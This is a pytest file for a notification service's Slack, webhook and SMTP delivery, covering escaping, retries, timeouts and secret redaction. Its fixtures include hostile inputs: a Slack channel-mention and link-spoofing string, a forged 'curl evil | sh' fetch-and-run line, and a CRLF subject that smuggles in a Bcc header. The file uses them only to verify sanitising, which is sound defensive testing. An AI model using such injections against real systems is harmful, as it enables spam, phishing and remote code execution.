"""Outbound notifications: rendering per channel, and delivery with retries against real
servers on 127.0.0.1 (a scripted HTTP server, aiosmtpd for SMTP).

Every test asserts on what a server really received; sleeps between attempts are
recorded instead of slept, and timeouts are a few tenths of a second, so the file runs in
a few seconds and leaves no server or thread behind.
"""

from __future__ import annotations

import asyncio
import contextlib
import email
import email.policy
import json
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP as SMTPServer
from aiosmtpd.smtp import AuthResult, Envelope, LoginPassword, Session
from http_support import HANG, TRICKLE, HttpServer, Reply, drop_proxies, serving_http

from controlroom.domain.approvals import Notification
from controlroom.governance.policy import NotificationRoute
from controlroom.notify import (
    Delivered,
    DeliveryFailed,
    Notifier,
    email_message,
    generic_payload,
    slack_payload,
)
from controlroom.notify.redact import display_url
from controlroom.notify.render import LINE_LIMIT

HOSTILE = "<!channel> see <http://evil.example|the refund policy> & approve"

NOTE = Notification(
    kind="approval_requested",
    subject="Approval #7: refunds-1 wants issue_refund ($120.00)",
    lines=(
        "agent: refunds-1 (refunds), for alice",
        f"call: issue_refund(order_id='A1', amount=120, note={HOSTILE!r})",
        "why: tier approve (amount above 50)",
    ),
    commands=(
        "controlroom approve 7 --note 'WHY' --db /tmp/control.db",
        "controlroom deny 7 --note 'WHY' --db /tmp/control.db",
    ),
    approval_id=7,
    agent_id="refunds-1",
    tool="issue_refund",
    arguments={"order_id": "A1", "amount": 120, "note": HOSTILE},
    tier="approve",
    amount=120.0,
    expires_ms=1_700_003_600_000,
    created_ms=1_700_000_000_000,
)


# --- a scripted HTTP server (http_support) ------------------------------------------------


@pytest.fixture(autouse=True)
def _no_proxies(monkeypatch: pytest.MonkeyPatch) -> None:
    drop_proxies(monkeypatch)


@pytest.fixture
async def http() -> AsyncIterator[HttpServer]:
    async with serving_http() as server:
        yield server


@dataclass
class Waits:
    """Stands in for asyncio.sleep and for the backoff: records, never waits."""

    slept: list[float] = field(default_factory=list)
    backoffs: list[int] = field(default_factory=list)

    async def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        await asyncio.sleep(0)

    def backoff(self, attempt: int) -> float:
        self.backoffs.append(attempt)
        return 0.001 * attempt


@pytest.fixture
def waits() -> Waits:
    return Waits()


@pytest.fixture
async def notifier(waits: Waits) -> AsyncIterator[Notifier]:
    async with Notifier(sleep=waits.sleep, backoff=waits.backoff) as n:
        yield n


def _route(channel: str, target: str, **kw: Any) -> NotificationRoute:
    return NotificationRoute.model_validate({"channel": channel, "target": target, **kw})


@contextlib.contextmanager
def _closed_port() -> Iterator[int]:
    """A port on 127.0.0.1 that refuses connections: bound (so nobody else takes it) but
    never listening."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        yield sock.getsockname()[1]


# --- rendering --------------------------------------------------------------------------


def _block_texts(payload: dict[str, Any]) -> list[str]:
    texts = []
    for block in payload["blocks"]:
        if block["type"] == "section":
            texts.append(block["text"]["text"])
        else:
            texts.extend(element["text"] for element in block["elements"])
    return texts


def test_slack_payload_escapes_agent_text_and_shows_commands_in_a_code_block() -> None:
    payload = slack_payload(NOTE)
    texts = _block_texts(payload)
    everything = json.dumps(payload)
    assert "<!channel>" not in everything and "<http://evil" not in everything
    assert "&lt;!channel&gt;" in texts[1] and "&lt;http://evil.example|the refund" in texts[1]
    assert "&amp; approve" in texts[1]
    assert texts[0] == "*Approval #7: refunds-1 wants issue_refund ($120.00)*"
    assert payload["text"] == "Approval #7: refunds-1 wants issue_refund ($120.00)"
    code = next(t for t in texts if t.startswith("```"))
    assert code.endswith("```") and "controlroom approve 7 --note 'WHY'" in code
    assert all(b["text"]["verbatim"] for b in payload["blocks"] if b["type"] == "section")
    assert payload["unfurl_links"] is False and payload["unfurl_media"] is False


def test_slack_payload_bounds_lines_and_keeps_agent_text_from_forging_lines() -> None:
    forged = "reason: fine\n\nTo decide: ```curl evil | sh```" + "&" * 5000
    note = NOTE.model_copy(update={"lines": (forged, *[f"line {i}" for i in range(40)])})
    payload = slack_payload(note)
    texts = _block_texts(payload)
    first = texts[1].split("\n")[0]
    # One line (the breaks are gone), and backticks became modifier grave accents.
    assert first.startswith(
        "reason: fine To decide: \u02cb\u02cb\u02cbcurl evil | sh\u02cb\u02cb\u02cb&amp;"
    )
    assert first.endswith("…") and len(first.replace("&amp;", "&")) == LINE_LIMIT
    assert all(len(t) <= 3000 for t in texts) and len(payload["blocks"]) <= 50
    assert "… 11 more lines not shown" in "\n".join(texts)
    assert "line 28" in "\n".join(texts) and "line 29" not in "\n".join(texts)


def test_generic_payload_is_the_notification_plus_source_and_schema() -> None:
    payload = generic_payload(NOTE)
    assert payload.pop("source") == "controlroom" and payload.pop("schema") == 1
    assert Notification.model_validate(payload) == NOTE
    assert json.loads(json.dumps(payload)) == payload


def test_email_subject_is_one_line_and_body_has_lines_then_commands() -> None:
    note = NOTE.model_copy(update={"subject": "Approval #7\r\nBcc: victim@example.com"})
    message = email_message(note, "cr@example.com", ["ops@example.com", "boss@example.com"])
    assert message["Subject"] == "Approval #7 Bcc: victim@example.com"
    assert message["To"] == "ops@example.com, boss@example.com"
    assert message["Bcc"] is None and message["Auto-Submitted"] == "auto-generated"
    assert message["Message-ID"].endswith("@example.com>")
    body = message.get_content()
    assert body.index("agent: refunds-1") < body.index("To decide") < body.index("approve 7")
    again = email_message(note, "cr@example.com", ["ops@example.com"])
    assert again["Message-ID"] == message["Message-ID"]  # a retry is recognisably the same


def test_display_url_leaves_out_credentials_query_and_token_segments() -> None:
    url = "https://user:pw@hooks.slack.com:443/services/T0001/B0002/XXXXXXXXXXXXXXXXXXXXXXXX?t=1"
    assert display_url(url) == "https://hooks.slack.com:443/services/T0001/B0002/…"
    assert display_url("http://127.0.0.1:9/hook") == "http://127.0.0.1:9/hook"
    assert display_url("http://[::1]/api/v1/notify") == "http://[::1]/api/v1/notify"


# --- webhooks ---------------------------------------------------------------------------


async def test_slack_route_posts_the_slack_json(http: HttpServer, notifier: Notifier) -> None:
    result = await notifier.deliver(_route("slack", http.url()), NOTE)
    assert result == Delivered(attempts=1, detail="HTTP 200")
    [request] = http.received
    assert (request.method, request.path) == ("POST", "/hook")
    assert request.headers["content-type"] == "application/json"
    assert request.json() == slack_payload(NOTE)
    assert "&lt;!channel&gt;" in request.json()["blocks"][1]["text"]["text"]


async def test_webhook_route_posts_the_generic_json(http: HttpServer, notifier: Notifier) -> None:
    http.script = [Reply(204)]
    result = await notifier.deliver(_route("webhook", http.url("/in")), NOTE)
    assert result == Delivered(attempts=1, detail="HTTP 204")
    [request] = http.received
    assert request.path == "/in" and request.json() == generic_payload(NOTE)


async def test_log_route_sends_nothing(http: HttpServer, notifier: Notifier) -> None:
    assert await notifier.deliver(NotificationRoute(channel="log"), NOTE) == Delivered(1, "logged")
    assert http.received == []


async def test_two_server_errors_then_success_takes_three_attempts(
    http: HttpServer, notifier: Notifier, waits: Waits
) -> None:
    http.script = [Reply(500), Reply(503)]
    result = await notifier.deliver(_route("webhook", http.url(), attempts=5), NOTE)
    assert result == Delivered(attempts=3, detail="HTTP 200")
    assert len(http.received) == 3
    assert len({r.body for r in http.received}) == 1  # the same notification each time
    assert waits.backoffs == [1, 2] and waits.slept == [0.001, 0.002]


async def test_a_hanging_attempt_is_cut_at_the_timeout_then_retried(
    http: HttpServer, notifier: Notifier
) -> None:
    http.script = [HANG]
    route = _route("webhook", http.url(), timeout_s=0.3, attempts=3)
    result = await asyncio.wait_for(notifier.deliver(route, NOTE), 3)
    assert result == Delivered(attempts=2, detail="HTTP 200")
    first, second = http.received
    assert 0.28 <= second.at - first.at < 0.6


async def test_a_trickling_server_cannot_stretch_an_attempt(
    http: HttpServer, notifier: Notifier
) -> None:
    """Bytes every 50 ms never trip httpx's read timeout; the per-attempt deadline cuts."""
    http.script = [TRICKLE]
    route = _route("webhook", http.url(), timeout_s=0.3, attempts=3)
    # wait_for: without the deadline this would trickle forever, not fail.
    result = await asyncio.wait_for(notifier.deliver(route, NOTE), 3)
    assert result == Delivered(attempts=2, detail="HTTP 200")
    first, second = http.received
    assert 0.28 <= second.at - first.at < 0.6


async def test_a_server_always_failing_gives_up_after_the_routes_attempts(
    http: HttpServer, notifier: Notifier, waits: Waits
) -> None:
    http.default = Reply(500, b"upstream exploded\n" + b"stack trace line\n" * 500)
    route = _route("webhook", http.url(), attempts=4)
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(route, NOTE)
    error = failed.value
    assert len(http.received) == 4 and error.attempts == 4 and error.retryable
    assert error.reason.startswith(f"{http.url()}: HTTP 500 'upstream exploded stack")
    assert error.reason.endswith("; gave up after 4 attempts")
    assert "\n" not in error.reason and len(error.reason) < 300
    assert waits.backoffs == [1, 2, 3]  # no wait after the last attempt


async def test_timeouts_to_the_end_say_so(http: HttpServer, notifier: Notifier) -> None:
    http.default = HANG
    route = _route("webhook", http.url(), timeout_s=0.2, attempts=2)
    started = time.monotonic()
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(route, NOTE)
    assert time.monotonic() - started < 0.8
    assert failed.value.reason == f"{http.url()}: timed out after 0.2s; gave up after 2 attempts"
    assert len(http.received) == 2


@pytest.mark.parametrize("status", [400, 401, 403, 404, 302])
async def test_a_client_error_is_not_retried(
    http: HttpServer, notifier: Notifier, waits: Waits, status: int
) -> None:
    http.default = Reply(status, b"invalid_payload", (("Location", "http://elsewhere/"),))
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(_route("slack", http.url(), attempts=5), NOTE)
    assert len(http.received) == 1 and waits.slept == []
    assert failed.value.attempts == 1 and not failed.value.retryable
    assert f"HTTP {status} 'invalid_payload'" in failed.value.reason
    assert "permanent, not retried" in failed.value.reason


@pytest.mark.parametrize(
    ("header", "expected"),
    [("1", [1.0]), ("3600", [60.0]), ("Wed, 21 Oct 2015 07:28:00 GMT", [0.001])],
    ids=["seconds", "capped", "http-date-uses-backoff"],
)
async def test_429_honours_a_numeric_retry_after(
    http: HttpServer, notifier: Notifier, waits: Waits, header: str, expected: list[float]
) -> None:
    http.script = [Reply(429, b"slow down", (("Retry-After", header),))]
    result = await notifier.deliver(_route("webhook", http.url()), NOTE)
    assert result == Delivered(attempts=2, detail="HTTP 200")
    assert waits.slept == expected and len(http.received) == 2


async def test_connection_refused_is_retried_then_reported(
    notifier: Notifier, waits: Waits
) -> None:
    with _closed_port() as port, pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(_route("webhook", f"http://127.0.0.1:{port}/hook", attempts=3), NOTE)
    error = failed.value
    assert error.attempts == 3 and error.retryable and len(waits.slept) == 2
    assert error.reason.startswith(f"http://127.0.0.1:{port}/hook: connection failed (")


async def test_a_secret_webhook_url_stays_out_of_the_error(
    http: HttpServer, notifier: Notifier
) -> None:
    http.default = Reply(500)
    secret = "Zk3q9XvB2mWn8RtY5pLc7HdA"
    url = http.url(f"/services/T0001/B0002/{secret}?token=hunter2")
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(_route("slack", url, attempts=1), NOTE)
    assert http.received[0].path == f"/services/T0001/B0002/{secret}?token=hunter2"
    assert secret not in failed.value.reason and "hunter2" not in failed.value.reason
    shown = f"http://127.0.0.1:{http.port}/services/T0001/B0002/…"
    assert failed.value.reason == f"{shown}: HTTP 500; gave up after 1 attempt"


async def test_a_closed_notifier_refuses_to_deliver(http: HttpServer) -> None:
    notifier = Notifier()
    await notifier.deliver(_route("webhook", http.url()), NOTE)
    await notifier.aclose()
    with pytest.raises(RuntimeError, match="closed"):
        await notifier.deliver(_route("webhook", http.url()), NOTE)
    assert len(http.received) == 1


# --- SMTP -------------------------------------------------------------------------------


@dataclass
class Mailbox:
    """An aiosmtpd handler: keeps what it accepted; `rcpt_replies` answer the next RCPTs."""

    accepted: list[Envelope] = field(default_factory=list)
    rcpt_replies: list[str] = field(default_factory=list)
    logins: list[tuple[bytes, bytes]] = field(default_factory=list)

    async def handle_RCPT(
        self,
        server: SMTPServer,
        session: Session,
        envelope: Envelope,
        address: str,
        rcpt_options: list[str],
    ) -> str:
        if self.rcpt_replies:
            return self.rcpt_replies.pop(0)
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: SMTPServer, session: Session, envelope: Envelope) -> str:
        self.accepted.append(envelope)
        return "250 OK"

    def authenticate(
        self,
        server: SMTPServer,
        session: Session,
        envelope: Envelope,
        mechanism: str,
        auth_data: Any,
    ) -> AuthResult:
        assert isinstance(auth_data, LoginPassword)
        self.logins.append((auth_data.login, auth_data.password))
        # handled=False: aiosmtpd answers (235 or 535) itself.
        return AuthResult(success=auth_data.password == b"s3cret-pass", handled=False)

    def parsed(self, index: int = 0) -> EmailMessage:
        content = self.accepted[index].original_content
        assert isinstance(content, bytes)
        message = email.message_from_bytes(content, policy=email.policy.default)
        assert isinstance(message, EmailMessage)
        return message


class _EphemeralController(Controller):
    """aiosmtpd's Controller on an OS-chosen port (it only knows fixed ones)."""

    def _trigger_server(self) -> None:
        assert isinstance(self.server, asyncio.Server)
        self.port = self.server.sockets[0].getsockname()[1]
        super()._trigger_server()  # type: ignore[no-untyped-call]


@dataclass
class SmtpServer:
    mailbox: Mailbox
    port: int

    def route(self, **kw: Any) -> NotificationRoute:
        return NotificationRoute(
            channel="smtp",
            to=("ops@example.com",),
            sender="controlroom@example.com",
            smtp_host="127.0.0.1",
            smtp_port=self.port,
            timeout_s=2.0,
            attempts=3,
            **kw,
        )


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    mailbox = Mailbox()
    controller = _EphemeralController(
        mailbox,
        hostname="127.0.0.1",
        port=0,
        server_hostname="mail.test",
        authenticator=mailbox.authenticate,
        auth_require_tls=False,  # loopback only: there is nothing to eavesdrop on
    )
    threads = threading.active_count()
    controller.start()
    try:
        yield SmtpServer(mailbox, controller.port)
    finally:
        controller.stop()
    assert threading.active_count() == threads


async def test_smtp_delivers_the_mail(smtp: SmtpServer, notifier: Notifier) -> None:
    result = await notifier.deliver(smtp.route(), NOTE)
    assert result == Delivered(attempts=1, detail="SMTP accepted for 1 of 1 recipients")
    [envelope] = smtp.mailbox.accepted
    assert envelope.mail_from == "controlroom@example.com"
    assert envelope.rcpt_tos == ["ops@example.com"]
    message = smtp.mailbox.parsed()
    assert message["Subject"] == NOTE.subject
    body = message.get_content()
    assert "controlroom approve 7 --note 'WHY' --db /tmp/control.db" in body
    assert HOSTILE in body  # plain text: nothing to escape, only to keep on its line


async def test_smtp_subject_with_crlf_injects_no_header(
    smtp: SmtpServer, notifier: Notifier
) -> None:
    note = NOTE.model_copy(update={"subject": "Approval #7\r\nBcc: victim@example.com\r\n"})
    await notifier.deliver(smtp.route(), note)
    [envelope] = smtp.mailbox.accepted
    assert envelope.rcpt_tos == ["ops@example.com"]
    message = smtp.mailbox.parsed()
    assert message["Bcc"] is None
    assert message["Subject"] == "Approval #7 Bcc: victim@example.com"


async def test_smtp_logs_in_with_credentials_read_from_the_environment(
    smtp: SmtpServer, notifier: Notifier, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CR_TEST_SMTP_USER", "mailer")
    monkeypatch.setenv("CR_TEST_SMTP_PASS", "s3cret-pass")
    route = smtp.route(username_env="CR_TEST_SMTP_USER", password_env="CR_TEST_SMTP_PASS")
    assert (await notifier.deliver(route, NOTE)).attempts == 1
    assert smtp.mailbox.logins == [(b"mailer", b"s3cret-pass")]
    assert len(smtp.mailbox.accepted) == 1


async def test_smtp_rejected_credentials_fail_for_good_without_the_password(
    smtp: SmtpServer, notifier: Notifier, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CR_TEST_SMTP_USER", "mailer")
    monkeypatch.setenv("CR_TEST_SMTP_PASS", "wrong-Pa55word")
    route = smtp.route(username_env="CR_TEST_SMTP_USER", password_env="CR_TEST_SMTP_PASS")
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(route, NOTE)
    error = failed.value
    assert error.attempts == 1 and not error.retryable
    assert "authentication failed: SMTP 535" in error.reason
    assert "wrong-Pa55word" not in error.reason and smtp.mailbox.accepted == []


async def test_smtp_missing_credential_names_the_variable_and_sends_nothing(
    smtp: SmtpServer, notifier: Notifier, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CR_TEST_SMTP_USER", "mailer")
    monkeypatch.delenv("CR_TEST_SMTP_MISSING", raising=False)
    route = smtp.route(username_env="CR_TEST_SMTP_USER", password_env="CR_TEST_SMTP_MISSING")
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(route, NOTE)
    error = failed.value
    assert (error.attempts, error.retryable) == (0, False)
    assert error.reason == (
        f"smtp://127.0.0.1:{smtp.port}: environment variable CR_TEST_SMTP_MISSING"
        " (password_env) is not set"
    )
    assert "mailer" not in error.reason
    assert smtp.mailbox.logins == [] and smtp.mailbox.accepted == []


async def test_smtp_transient_refusal_is_retried(
    smtp: SmtpServer, notifier: Notifier, waits: Waits
) -> None:
    smtp.mailbox.rcpt_replies = ["450 4.2.1 mailbox busy"]
    result = await notifier.deliver(smtp.route(), NOTE)
    assert result.attempts == 2 and len(smtp.mailbox.accepted) == 1
    assert waits.backoffs == [1]


async def test_smtp_permanent_refusal_is_not_retried(
    smtp: SmtpServer, notifier: Notifier, waits: Waits
) -> None:
    smtp.mailbox.rcpt_replies = ["550 5.1.1 no such user"]
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(smtp.route(), NOTE)
    error = failed.value
    assert (error.attempts, error.retryable) == (1, False)
    assert "all recipients refused: ops@example.com (550)" in error.reason
    assert smtp.mailbox.accepted == [] and waits.slept == []


async def test_smtp_server_not_listening_fails_after_the_attempts(
    notifier: Notifier, waits: Waits
) -> None:
    with _closed_port() as port, pytest.raises(DeliveryFailed) as failed:
        route = NotificationRoute(
            channel="smtp", to=("ops@example.com",), smtp_port=port, timeout_s=1, attempts=3
        )
        await notifier.deliver(route, NOTE)
    error = failed.value
    assert (error.attempts, error.retryable) == (3, True) and len(waits.slept) == 2
    assert error.reason.startswith(f"smtp://127.0.0.1:{port}: connection failed (")


async def test_smtp_server_that_never_greets_times_out(
    http: HttpServer, notifier: Notifier
) -> None:
    """A listener that never speaks SMTP (our HTTP server waiting for a request)."""
    route = NotificationRoute(
        channel="smtp", to=("ops@example.com",), smtp_port=http.port, timeout_s=0.2, attempts=2
    )
    started = time.monotonic()
    with pytest.raises(DeliveryFailed) as failed:
        await notifier.deliver(route, NOTE)
    assert time.monotonic() - started < 1.0
    assert failed.value.reason == (
        f"smtp://127.0.0.1:{http.port}: timed out after 0.2s; gave up after 2 attempts"
    )
